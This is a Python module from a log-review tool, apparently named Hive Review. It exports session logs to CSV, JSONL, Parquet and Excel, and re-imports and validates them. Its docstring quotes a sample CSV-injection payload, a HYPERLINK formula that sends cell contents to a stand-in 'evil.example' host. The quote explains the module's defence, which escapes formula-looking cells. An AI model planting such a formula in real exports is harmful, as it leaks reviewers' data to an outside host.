r"""Exports of the session log (CSV, JSONL, Parquet, Excel) and reading them back to continue a log.

What each format keeps:

* **JSONL** and **Parquet** keep every value exactly (text, numbers, UTC timestamps). JSONL writes
  non-ASCII text as ``\uXXXX`` escapes (see ``export_jsonl``).
* **CSV** is plain UTF-8 without a byte-order mark, RFC 4180 style (CRLF between records, so a cell
  holding a lone carriage return is quoted and survives). Without a BOM some Excel versions guess
  the wrong encoding on a double click: Excel users should take the **.xlsx** export instead; the
  CSV is for scripts and other tools, which a BOM would trip up.
* **CSV and Excel** are opened by spreadsheet programs, which run a cell starting with ``=``,
  ``+``, ``-``, ``@``, tab or carriage return as a formula: model output or a comment such as
  ``=HYPERLINK("https://evil.example/?"&A1)`` would run on the reviewer's machine (OWASP "CSV
  injection"). Such text cells get a leading ``'`` so they show as text. The cost: a legitimate
  text cell such as ``-5`` shows as ``'-5``. Numeric columns are never touched. ``read_export``
  removes the quote again, so a round trip gives back the exact text.
* **Excel** has no time zones: timestamps are written as naive UTC, and kept to the millisecond
  (Excel stores a time as a fraction of a day). A cell holds at most 32,767
  characters: longer text is cut, with a visible marker, in the Excel export only. Control
  characters (and carriage returns, which XML would turn into line feeds) are written with Excel's
  own ``_xHHHH_`` escapes, which Excel shows as the character and ``read_export`` decodes.
* In CSV and Excel an empty text and a missing value are the same empty cell; both read back as
  missing.
"""

from __future__ import annotations

import io
import json
import re
import zipfile
from collections.abc import Callable
from pathlib import PurePath
from typing import Final, NamedTuple

import numpy as np
import pandas as pd
import pyarrow as pa
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font
from openpyxl.utils.exceptions import InvalidFileException

from hive_review.log import columns as col
from hive_review.log.filters import STAR_VALUES
from hive_review.log.frames import (
    NUMBER_COLUMNS,
    TEXT_DTYPE,
    TIMESTAMP_COLUMNS,
    TIMESTAMP_DTYPE,
    WHOLE_NUMBER_COLUMNS,
    WHOLE_NUMBER_DTYPE,
)

# OWASP's list of characters that make a spreadsheet cell a formula.
FORMULA_TRIGGERS: Final[tuple[str, ...]] = ("=", "+", "-", "@", "\t", "\r")
# A cell is quoted when it starts with a trigger, or with quotes and then a trigger: quoting the
# latter too is what makes the quote removal on import unambiguous ("'=x" comes back as "'=x").
_TRIGGER: Final = "[" + "".join(re.escape(trigger) for trigger in FORMULA_TRIGGERS) + "]"
_NEEDS_QUOTE: Final = "'*" + _TRIGGER
_QUOTED: Final = "'+" + _TRIGGER

EXCEL_CELL_LIMIT: Final = 32_767  # characters (UTF-16 code units) in one Excel cell
EXCEL_MAX_ROWS: Final = 1_048_576  # rows of a worksheet, the header included
EXCEL_SHEET: Final = "log"
# Characters XML cannot hold, or changes (CR), and an "_x" that would read as an escape: Excel's escapes.
_EXCEL_ESCAPE_NEEDED: Final = re.compile(r"[\x00-\x08\x0b-\x1f]|_(?=x[0-9A-Fa-f]{4})")
# The same without the look-ahead, which pyarrow's regex engine (RE2) lacks: finds the cells to escape.
_EXCEL_ESCAPE_FINDER: Final = r"[\x00-\x08\x0b-\x1f]|_x[0-9A-Fa-f]{4}"
_EXCEL_ESCAPE: Final = re.compile(r"_x([0-9A-Fa-f]{4})_")

_REEXPORT_FIX: Final = "Export it again from Hive Review's Log page"
# Text stays text: pandas 2 turns columns named like dates (even "input.created_at") into datetimes
# unless told not to; pandas 3 does not, and deprecates the keyword.
_READ_JSON_OPTIONS: Final[dict[str, object]] = (
    {"dtype": False} if int(pd.__version__.split(".")[0]) >= 3 else {"dtype": False, "convert_dates": False}
)


class ImportFormatError(ValueError):
    """A file that is not a Hive Review export this version can continue; the message says why and how."""


class ExportFormat(NamedTuple):
    write: Callable[[pd.DataFrame], bytes]
    extension: str
    mime: str


# --------------------------------------------------------------------------------------------- exports


def export_csv(df: pd.DataFrame) -> bytes:
    """UTF-8 CSV (no BOM), ISO 8601 UTC timestamps, formula-looking text cells quoted."""
    changed = {name: _iso_utc(df[name]) for name in _datetime_columns(df)}
    for name in _text_columns(df):
        neutralised = _neutralised(df[name])
        if neutralised is not None:
            changed[name] = neutralised
    return _with_columns(df, changed).to_csv(index=False, lineterminator="\r\n").encode("utf-8")


def export_jsonl(df: pd.DataFrame) -> bytes:
    """One JSON object per line (ASCII, so UTF-8), exact text, ISO 8601 UTC timestamps, null for missing."""
    changed = {name: _as_utc(df[name]) for name in _datetime_columns(df)}
    text = _with_columns(df, changed).to_json(
        orient="records",
        lines=True,
        date_format="iso",
        date_unit="us",
        # Non-ASCII is written as \uXXXX escapes: every JSON reader gives back the exact text, and
        # pandas writes escapes about 1.7x faster than raw UTF-8 (force_ascii=False).
        force_ascii=True,
        double_precision=15,  # the most pandas writes; its default, 10, rounds small costs
    )
    return text.encode("utf-8")


def export_parquet(df: pd.DataFrame) -> bytes:
    """Parquet: every value and dtype as it is."""
    buffer = io.BytesIO()
    df.to_parquet(buffer, index=False, engine="pyarrow")
    return buffer.getvalue()


def export_excel(df: pd.DataFrame) -> bytes:
    """An .xlsx workbook with one sheet, ``log``: naive UTC timestamps, formula-looking text quoted,
    cells longer than 32,767 characters cut with a marker saying so."""
    if len(df) + 1 > EXCEL_MAX_ROWS:
        raise ValueError(
            f"The log has {len(df):,} rows; an Excel sheet holds {EXCEL_MAX_ROWS - 1:,}. "
            "Filter the log to fewer rows, or take the CSV, JSONL or Parquet export."
        )
    # openpyxl's write-only mode streams rows to the file: much faster and smaller in memory than
    # pandas' to_excel, which builds every cell object first (and only has write-only in pandas 3).
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(EXCEL_SHEET)
    sheet.freeze_panes = "A2"
    bold = Font(bold=True)
    header = []
    for name in df.columns:
        cell = WriteOnlyCell(sheet, value=str(name))
        cell.font = bold
        header.append(cell)
    sheet.append(header)
    text_columns = set(_text_columns(df))
    cells = [_excel_values(df[name], is_text=name in text_columns) for name in df.columns]
    for row in zip(*cells, strict=True):
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


EXPORT_FORMATS: Final[dict[str, ExportFormat]] = {
    "CSV": ExportFormat(export_csv, "csv", "text/csv"),
    "JSONL": ExportFormat(export_jsonl, "jsonl", "application/jsonl"),
    "Parquet": ExportFormat(export_parquet, "parquet", "application/vnd.apache.parquet"),
    "Excel": ExportFormat(export_excel, "xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
}


# --------------------------------------------------------------------------------------------- import


def read_export(data: bytes, filename: str) -> pd.DataFrame:
    """Read a Hive Review export back, with the log's dtypes and the exact text.

    The format comes from the extension (.csv, .jsonl, .parquet, .xlsx). The quotes the CSV and
    Excel exports put before formula-looking text are removed, and Excel's escapes decoded. Log
    columns the file lacks (other than ``columns.REQUIRED_FOR_IMPORT``) are added empty. Raises
    ``ImportFormatError`` naming the problem and the fix.
    """
    name = PurePath(filename).name or filename
    extension = PurePath(name).suffix.lower()
    readers: dict[str, Callable[[bytes], pd.DataFrame]] = {
        ".csv": _read_csv,
        ".jsonl": _read_jsonl,
        ".parquet": _read_parquet,
        ".xlsx": _read_excel,
    }
    reader = readers.get(extension)
    if reader is None:
        raise ImportFormatError(
            f"'{name}' is not a file Hive Review exports: it reads .csv, .jsonl, .parquet and .xlsx. "
            f"{_REEXPORT_FIX} in one of these formats."
        )
    if not data.strip():
        raise ImportFormatError(f"'{name}' is empty. {_REEXPORT_FIX}, and choose the downloaded file, not a new one.")
    try:
        frame = reader(data)
    except ImportFormatError:
        raise
    except (UnicodeDecodeError, pd.errors.ParserError, pd.errors.EmptyDataError) as exc:
        raise ImportFormatError(
            f"'{name}' is not a readable {extension[1:].upper()} file ({_first_line(exc)}). "
            f"{_REEXPORT_FIX}; if you edited it, save it as UTF-8 {extension[1:].upper()}."
        ) from exc
    except (
        ValueError,
        TypeError,
        KeyError,
        OSError,
        zipfile.BadZipFile,
        InvalidFileException,
        pa.ArrowException,
    ) as exc:
        raise ImportFormatError(
            f"'{name}' could not be read as {extension[1:].upper()} ({_first_line(exc)}). "
            f"{_REEXPORT_FIX}, and keep its file extension."
        ) from exc
    return _conformed(frame, name)


def _read_csv(data: bytes) -> pd.DataFrame:
    # Every cell as text first; numbers and times are restored per column by _conformed.
    # "utf-8-sig" also reads a CSV that a spreadsheet program saved back with a BOM.
    # pandas 2's C parser cuts a cell at a NUL character; the rare file holding one takes the slow,
    # exact Python parser.
    frame = pd.read_csv(
        io.BytesIO(data),
        dtype=str,
        keep_default_na=False,
        na_values=[""],
        encoding="utf-8-sig",
        engine="python" if b"\x00" in data else "c",
    )
    return _with_columns(frame, _restored_text_columns(frame, _restored))


def _read_jsonl(data: bytes) -> pd.DataFrame:
    try:
        return pd.read_json(io.BytesIO(data), lines=True, precise_float=True, **_READ_JSON_OPTIONS)
    except ValueError as exc:
        line = _bad_json_line(data)
        if line is None:
            raise
        raise ImportFormatError(
            f"Line {line[0]} is not a JSON object ({line[1]}). {_REEXPORT_FIX}: each line of a JSONL "
            "export is one row as a JSON object."
        ) from exc


def _read_parquet(data: bytes) -> pd.DataFrame:
    return pd.read_parquet(io.BytesIO(data), engine="pyarrow")


def _read_excel(data: bytes) -> pd.DataFrame:
    frame = pd.read_excel(
        io.BytesIO(data), sheet_name=0, engine="openpyxl", dtype=object, keep_default_na=False, na_values=[""]
    )

    def restored(values: pd.Series) -> pd.Series:
        return _restored(_excel_unescaped(values))

    return _with_columns(frame, _restored_text_columns(frame, restored))


def _bad_json_line(data: bytes) -> tuple[int, str] | None:
    """The first line that is not a JSON object, with why; found only after pandas refused the file."""
    for number, line in enumerate(data.decode("utf-8", errors="replace").splitlines(), start=1):
        if not line.strip():
            continue
        try:
            value = json.loads(line)
        except json.JSONDecodeError as exc:
            return number, exc.msg
        if not isinstance(value, dict):
            return number, f"it is a JSON {type(value).__name__}"
    return None


# ------------------------------------------------------------------------------------- validation


def _conformed(frame: pd.DataFrame, name: str) -> pd.DataFrame:
    frame = frame.reset_index(drop=True)
    frame.columns = [str(column) for column in frame.columns]
    missing = [column for column in col.REQUIRED_FOR_IMPORT if column not in frame.columns]
    if missing:
        listed = ", ".join(missing)
        raise ImportFormatError(
            f"'{name}' lacks the column{'s' if len(missing) > 1 else ''} {listed}, which Hive Review "
            f"needs to continue a log ({', '.join(col.REQUIRED_FOR_IMPORT)}). {_REEXPORT_FIX}, or add "
            f"the column{'s' if len(missing) > 1 else ''} {listed} to the file."
        )
    problems: list[str] = []
    typed: dict[str, pd.Series] = {}
    for column in frame.columns:
        values = frame[column]
        if column in TIMESTAMP_COLUMNS:
            typed[column] = _timestamps(column, values, problems)
        elif column in WHOLE_NUMBER_COLUMNS:
            typed[column] = _whole_numbers(column, values, problems)
        elif column in NUMBER_COLUMNS:
            typed[column] = _numbers(column, values, problems)
        else:
            typed[column] = _text(values)
    _check_text_columns(typed, problems)
    if problems:
        raise ImportFormatError(
            f"'{name}' has values of the wrong kind: {'; '.join(problems)}. {_REEXPORT_FIX}, or fix "
            "those cells (rows are counted from 1, below the header)."
        )
    rows = len(frame)
    for column in col.LOG_COLUMNS:
        if column not in typed:
            typed[column] = _empty_column(column, rows, frame.index)
    ordered = [*col.LOG_COLUMNS, *(column for column in frame.columns if column not in col.LOG_COLUMNS)]
    return pd.DataFrame({column: typed[column] for column in ordered}, index=pd.RangeIndex(rows))


def _timestamps(column: str, values: pd.Series, problems: list[str]) -> pd.Series:
    # Naive times (from Excel) are UTC, as the export wrote them.
    values = _blank_as_missing(values)
    parsed = pd.to_datetime(values, utc=True, format="ISO8601", errors="coerce")
    _report(problems, column, values, values.notna() & parsed.isna(), "ISO 8601 times")
    return parsed.astype(TIMESTAMP_DTYPE)


def _whole_numbers(column: str, values: pd.Series, problems: list[str]) -> pd.Series:
    values = _blank_as_missing(values)
    numbers = pd.to_numeric(values, errors="coerce").astype("float64")
    wrong = values.notna() & (numbers.isna() | (numbers % 1 != 0))
    if column == col.RATING:
        wrong |= numbers.notna() & ~numbers.isin(STAR_VALUES)
        what = "whole numbers from 1 to 5"
    else:
        wrong |= numbers < 0
        what = "whole numbers of 0 or more"
    if _report(problems, column, values, wrong, what):
        return pd.Series(pd.NA, index=values.index, dtype=WHOLE_NUMBER_DTYPE)
    return numbers.astype(WHOLE_NUMBER_DTYPE)


def _numbers(column: str, values: pd.Series, problems: list[str]) -> pd.Series:
    values = _blank_as_missing(values)
    numbers = pd.to_numeric(values, errors="coerce").astype("float64")
    _report(problems, column, values, values.notna() & numbers.isna(), "numbers")
    return numbers


def _blank(values: pd.Series) -> np.ndarray:
    """Missing, or text of only whitespace (a hand-made JSONL may write "" for nothing)."""
    missing = values.isna().to_numpy()
    try:
        empty = values.str.strip().eq("").to_numpy(dtype=bool, na_value=False)
    except AttributeError:  # no text in the column at all
        return missing
    return missing | empty


def _blank_as_missing(values: pd.Series) -> pd.Series:
    blank = _blank(values)
    if not blank.any():
        return values
    return values.astype(object).where(~blank, None)


def _text(values: pd.Series) -> pd.Series:
    if pd.api.types.infer_dtype(values, skipna=True) not in ("string", "empty"):
        # Excel or a hand-edited JSONL may hold a number where the log holds text ("2" as 2).
        values = values.map(lambda value: value if isinstance(value, str) or pd.isna(value) else str(value))
    return values.astype(TEXT_DTYPE)


def _check_text_columns(typed: dict[str, pd.Series], problems: list[str]) -> None:
    generation_ids = typed[col.GENERATION_ID]
    _report(problems, col.GENERATION_ID, generation_ids, _blank(generation_ids), "an id on every row")
    inputs = typed[col.INPUTS_JSON]
    not_object = np.array([not _is_json_object(value) for value in inputs], dtype=bool)
    _report(problems, col.INPUTS_JSON, inputs, not_object, 'a JSON object such as {"tone": "warm"}')
    if col.THUMBS in typed:
        thumbs = typed[col.THUMBS]
        wrong = ~_blank(thumbs) & ~thumbs.isin(col.THUMBS_VALUES).to_numpy(dtype=bool, na_value=False)
        _report(problems, col.THUMBS, thumbs, wrong, '"up", "down" or nothing')


def _is_json_object(value: object) -> bool:
    if not isinstance(value, str):
        return False
    try:
        return isinstance(json.loads(value), dict)
    except json.JSONDecodeError:
        return False


def _report(problems: list[str], column: str, values: pd.Series, wrong: pd.Series | np.ndarray, what: str) -> bool:
    """Add a sentence naming the column, what it must hold and the first offending rows."""
    positions = np.flatnonzero(np.asarray(wrong, dtype=bool))
    if positions.size == 0:
        return False
    shown = ", ".join(str(position + 1) for position in positions[:5])
    more = f" and {positions.size - 5:,} more" if positions.size > 5 else ""
    example = values.iloc[positions[0]]
    example_text = "empty" if pd.isna(example) else repr(str(example)[:40])
    problems.append(
        f"column '{column}' must hold {what}, but row{'s' if positions.size > 1 else ''} {shown}{more} "
        f"do{'' if positions.size > 1 else 'es'} not (row {positions[0] + 1}: {example_text})"
    )
    return True


def _empty_column(column: str, rows: int, index: pd.Index) -> pd.Series:
    if column in TIMESTAMP_COLUMNS:
        return pd.Series(pd.NaT, index=index, dtype=TIMESTAMP_DTYPE)
    if column in WHOLE_NUMBER_COLUMNS:
        return pd.Series(pd.NA, index=index, dtype=WHOLE_NUMBER_DTYPE)
    if column in NUMBER_COLUMNS:
        return pd.Series(np.nan, index=index, dtype="float64")
    return pd.Series([None] * rows, index=index, dtype=object).astype(TEXT_DTYPE)


# ------------------------------------------------------------------------------------------ helpers


def _text_columns(df: pd.DataFrame) -> list[str]:
    return [
        name
        for name, dtype in df.dtypes.items()
        if isinstance(dtype, pd.StringDtype) or pd.api.types.is_object_dtype(dtype)
    ]


def _datetime_columns(df: pd.DataFrame) -> list[str]:
    return [name for name, dtype in df.dtypes.items() if pd.api.types.is_datetime64_any_dtype(dtype)]


def _with_columns(df: pd.DataFrame, changed: dict[str, pd.Series]) -> pd.DataFrame:
    """``df`` with some columns replaced, without copying the others (nor touching ``df``)."""
    if not changed:
        return df
    out = df.copy(deep=False)
    for name, values in changed.items():
        out[name] = values
    return out


def _string_mask(values: pd.Series, pattern: str, *, anywhere: bool = False) -> np.ndarray | None:
    """Where a text column matches ``pattern`` (at the start, or ``anywhere``); None without text."""
    try:
        if anywhere:
            matches = values.str.contains(pattern, regex=True, na=False)
        else:
            matches = values.str.match(pattern, na=False)
    except AttributeError:  # an object column without any string
        return None
    return matches.to_numpy(dtype=bool, na_value=False)


def _prefixed(values: pd.Series, where: np.ndarray, prefix: str) -> pd.Series:
    # Only the matching cells are rebuilt: most log cells need nothing.
    return values.where(~where, prefix + values[where].astype(str))


def _neutralised(values: pd.Series) -> pd.Series | None:
    """The column with formula-looking cells quoted, or None when none is."""
    where = _string_mask(values, _NEEDS_QUOTE)
    if where is None or not where.any():
        return None
    return _prefixed(values, where, "'")


def _restored(values: pd.Series) -> pd.Series:
    where = _string_mask(values, _QUOTED)
    if where is None or not where.any():
        return values
    return values.where(~where, values[where].str.slice(1))


def _restored_text_columns(frame: pd.DataFrame, restore: Callable[[pd.Series], pd.Series]) -> dict[str, pd.Series]:
    changed = {}
    for name in frame.columns:
        if name in TIMESTAMP_COLUMNS or name in WHOLE_NUMBER_COLUMNS or name in NUMBER_COLUMNS:
            continue
        restored = restore(frame[name])
        if restored is not frame[name]:
            changed[name] = restored
    return changed


def _as_utc(values: pd.Series) -> pd.Series:
    """Timestamps in UTC; naive ones are taken to be UTC already (the log stores UTC)."""
    if getattr(values.dtype, "tz", None) is None:
        return values.dt.tz_localize("UTC")
    return values.dt.tz_convert("UTC")


def _iso_utc(values: pd.Series) -> pd.Series:
    """``2025-01-31T09:30:00.123456Z``; missing stays missing. numpy formats in C, fast on 100k rows."""
    utc = _as_utc(values).dt.tz_localize(None).to_numpy(dtype="datetime64[us]")
    text = np.datetime_as_string(utc, unit="us", timezone="UTC")
    return pd.Series(text, index=values.index, dtype=object).where(values.notna().to_numpy(), None)


def _excel_values(values: pd.Series, *, is_text: bool) -> list[object]:
    """A column as the Python values openpyxl writes: None for missing, naive UTC datetimes."""
    if pd.api.types.is_datetime64_any_dtype(values.dtype):
        values = _as_utc(values).dt.tz_localize(None)
    elif is_text:
        values = _excel_text(values)
    missing = values.isna().to_numpy()
    cells = values.astype(object).to_numpy(copy=True)
    cells[missing] = None
    return cells.tolist()


def _excel_text(values: pd.Series) -> pd.Series:
    neutralised = _neutralised(values)
    if neutralised is not None:
        values = neutralised
    try:
        escape = values.str.contains(_EXCEL_ESCAPE_FINDER, regex=True, na=False).to_numpy(dtype=bool, na_value=False)
        # Any cell over half the limit may be over it in UTF-16 units (emoji count twice).
        long = (values.str.len() > EXCEL_CELL_LIMIT // 2).to_numpy(dtype=bool, na_value=False)
    except AttributeError:  # an object column without any string
        return values
    if not (escape.any() or long.any()):
        return values
    values = values.astype(object)  # cell by cell from here: only the few rows that need it
    for position in np.flatnonzero(escape | long):
        text = values.iloc[position]
        if isinstance(text, str):
            values.iloc[position] = _excel_cell_text(text)
    return values


def _excel_cell_text(text: str) -> str:
    escaped = _EXCEL_ESCAPE_NEEDED.sub(lambda match: f"_x{ord(match.group()[0]):04X}_", text)
    if _utf16_length(escaped) <= EXCEL_CELL_LIMIT:
        return escaped
    marker = (
        f" …[cut by Hive Review: {len(text):,} characters do not fit in an Excel cell "
        f"(at most {EXCEL_CELL_LIMIT:,}); the CSV, JSONL and Parquet exports hold the full text]"
    )
    budget = EXCEL_CELL_LIMIT - _utf16_length(marker)
    # Cut in UTF-16 code units, as Excel counts; a surrogate pair cut in half is dropped.
    kept = escaped.encode("utf-16-le", errors="surrogatepass")[: budget * 2].decode("utf-16-le", errors="ignore")
    return kept + marker


def _utf16_length(text: str) -> int:
    return len(text.encode("utf-16-le", errors="surrogatepass")) // 2


def _excel_unescaped(values: pd.Series) -> pd.Series:
    where = _string_mask(values, r"_x[0-9A-Fa-f]{4}_", anywhere=True)
    if where is None or not where.any():
        return values
    decoded = values[where].map(lambda text: _EXCEL_ESCAPE.sub(lambda match: chr(int(match.group(1), 16)), text))
    return values.where(~where, decoded)


def _first_line(exc: BaseException) -> str:
    text = str(exc).strip().splitlines()
    return text[0][:200] if text else type(exc).__name__
